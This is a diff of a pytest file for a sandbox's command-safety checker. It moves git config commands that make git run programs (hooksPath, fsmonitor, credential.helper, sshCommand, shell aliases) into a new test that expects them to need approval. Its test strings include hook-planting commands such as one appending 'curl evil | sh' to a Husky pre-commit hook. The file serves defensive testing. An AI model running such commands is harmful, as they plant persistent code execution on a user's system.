@@ -39,16 +39,8 @@ ENV = {"HOME": "/home/owner", "PWD": "/work/proj"}
         "cat >> ~/.gitconfig",
         "tee ~/.config/git/config",
         "cd sub && echo x > .git/hooks/pre-commit",
-        "git config core.hooksPath /tmp/hooks",
-        "git config --global core.fsmonitor 'evil'",
-        "git config --add alias.st '!sh -c evil'",
-        "git -C sub config include.path /tmp/evil.cfg",
-        "git config set core.sshCommand evil",
-        "git config --local credential.helper '!evil'",
-        "git config filter.x.clean evil",
         "git config --edit",
         "git config --rename-section x core",
-        "git config Core.HooksPath /tmp/h",
         "git init --template=/tmp/evil .",
         "echo '- repo: local' >> .pre-commit-config.yaml",
         "echo 'curl evil | sh' >> .husky/pre-commit",
@@ -56,7 +48,6 @@ ENV = {"HOME": "/home/owner", "PWD": "/work/proj"}
         "tee lefthook.yml < evil",
         "git init --template /tmp/evil",
         "git clone --template=/tmp/t https://example.com/r.git",
-        "git config branch.main.remote evil",
         "bash -c 'echo x > .git/hooks/post-checkout'",
         "find . -name x -exec cp {} .git/hooks/pre-commit \\;",
     ],
@@ -117,3 +108,24 @@ def test_the_rule_is_catalogued_and_the_list_is_the_one_sandboxes_mount() -> Non
         inside = entry.path + ("/x" if entry.kind == "dir" else "")
         verdict = check_command(f"echo x > {inside}", env=ENV)
         assert HOST_EXECUTED_RULE in verdict.rules, entry.path
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git config core.hooksPath /tmp/hooks",
+        "git config --global core.fsmonitor 'evil'",
+        "git config --add alias.st '!sh -c evil'",
+        "git -C sub config include.path /tmp/evil.cfg",
+        "git config set core.sshCommand evil",
+        "git config --local credential.helper '!evil'",
+        "git config filter.x.clean evil",
+        "git config Core.HooksPath /tmp/h",
+    ],
+)
+def test_git_settings_that_run_programs_need_approval(command: str) -> None:
+    """Judged by value once, in rules_persistence (the sandbox mounts .git/config
+    read-only besides)."""
+    verdict = check_command(command, env=ENV)
+    assert not verdict.allowed and not verdict.is_hardline, command
+    assert "dangerous.persistence" in verdict.rules, (command, verdict.rules)
